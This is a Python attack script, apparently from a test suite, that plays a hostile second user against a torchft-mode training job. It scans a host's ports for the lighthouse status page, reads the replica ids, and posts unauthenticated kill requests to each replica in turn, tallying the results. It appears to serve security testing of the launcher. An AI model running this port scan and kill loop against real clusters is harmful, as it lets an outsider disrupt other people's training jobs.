"""Another user's best kill attack on a torchft-mode job (issue 38, class 5): stdlib only.

Run as the attacker with the system's Python (``tests/test_outside_kills_live.py``)::

    python3 outside_kill_attack.py HOST PORT_LOW PORT_HIGH REQUESTS GAP_S

It finds the job's lighthouse the way an outsider can, by scanning ``HOST``'s ports in the
window the launcher draws from (``agent.rendezvous.choose_port``) for torchft's status page,
reads every replica group's id from it and posts ``/replica/<id>/kill``, round robin, until
``REQUESTS`` kill requests were made, ``GAP_S`` apart, scanning again whenever the
lighthouse is gone (a request with no lighthouse to send it to still counts: the attacker
spent it).  The lighthouse forwards each kill to the group's manager, which exits before it
answers, so a kill that worked comes back as torchft's HTTP 500 "transport error".  Prints
one JSON object: requests, posted, answered (any HTTP status), unreachable, no_target,
ports_found.
"""

from __future__ import annotations

import json
import re
import socket
import sys
import time
import urllib.error
import urllib.request

_KILL = re.compile(r'hx-post="/replica/([^"]+)/kill"')


def open_ports(host: str, low: int, high: int) -> list[int]:
    found = []
    for port in range(low, high):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
            sock.settimeout(0.2)
            if sock.connect_ex((host, port)) == 0:
                found.append(port)
    return found


def status_page(host: str, port: int) -> str | None:
    try:
        with urllib.request.urlopen(f"http://{host}:{port}/status", timeout=2) as answer:
            return answer.read().decode(errors="replace")
    except (OSError, urllib.error.URLError):
        return None


def find_lighthouse(host: str, low: int, high: int) -> int | None:
    for port in open_ports(host, low, high):
        page = status_page(host, port)
        if page is not None and "quorum" in page.lower():
            return port
    return None


def main() -> int:
    host, low, high, requests, gap = sys.argv[1:6]
    counts = {"requests": 0, "posted": 0, "answered": 0, "unreachable": 0, "no_target": 0}
    ports: set[int] = set()
    port: int | None = None
    turn = 0
    while counts["requests"] < int(requests):
        counts["requests"] += 1
        page = status_page(host, port) if port is not None else None
        if page is None:
            port = find_lighthouse(host, int(low), int(high))
            page = status_page(host, port) if port is not None else None
        replicas = sorted(set(_KILL.findall(page or "")))
        if port is None or not replicas:
            counts["no_target"] += 1
        else:
            ports.add(port)
            target = replicas[turn % len(replicas)]
            turn += 1
            url = f"http://{host}:{port}/replica/{target}/kill"
            counts["posted"] += 1
            try:
                req = urllib.request.Request(url, data=b"", method="POST")
                with urllib.request.urlopen(req, timeout=5):
                    counts["answered"] += 1
            except urllib.error.HTTPError:
                counts["answered"] += 1
            except (OSError, urllib.error.URLError):
                counts["unreachable"] += 1
        time.sleep(float(gap))
    print(json.dumps({**counts, "ports_found": sorted(ports)}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
